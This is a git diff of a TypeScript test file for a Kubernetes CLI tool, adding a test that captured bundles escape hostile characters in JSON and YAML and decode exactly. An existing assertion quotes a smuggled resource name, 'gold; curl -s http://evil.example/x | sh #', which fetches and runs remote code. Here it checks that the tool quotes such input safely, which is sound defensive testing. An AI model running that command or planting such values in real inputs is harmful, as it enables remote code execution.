@@ -9,6 +9,8 @@ import { join } from "node:path";
 import process from "node:process";
 import { describe, expect, it } from "vitest";
 import { parse as parseYaml } from "yaml";
+import { emptyBundle } from "../src/bundle/bundle.ts";
+import { decodeBundle, encodeBundle } from "../src/bundle/decode.ts";
 import { colourMark, printable } from "../src/report/printable.ts";
 import type { ServiceReport } from "../src/service/report.ts";
 import type { CliIo } from "../src/cli/io.ts";
@@ -115,6 +117,16 @@ describe("terminal escapes from the data", () => {
     const r = await cli(["pvc/md", "--why-pending", "--from", join(d, "bundle.yaml")]);
     expect(r.out).toContain("kubectl get volumeattributesclass 'gold; curl -s http://evil.example/x | sh #'; create it");
     expect(r.out).not.toContain("volumeattributesclass gold;");
+  });
+
+  it("a bundle written by capture (JSON and YAML) holds no such character raw, and reads back exact", () => {
+    const b = emptyBundle({});
+    b.objects.events.push({ apiVersion: "v1", kind: "Event", metadata: { name: "e1", namespace: "default" }, message: HOSTILE } as never);
+    for (const format of ["json", "yaml"] as const) {
+      const text = encodeBundle(b, format);
+      expect(text, format).not.toMatch(RAW_ANY);
+      expect(decodeBundle(text, `b.${format}`).objects.events[0]!.message, format).toBe(HOSTILE);
+    }
   });
 
   it("a colour marker cannot be forged from the data (the marker's tag is per process)", () => {
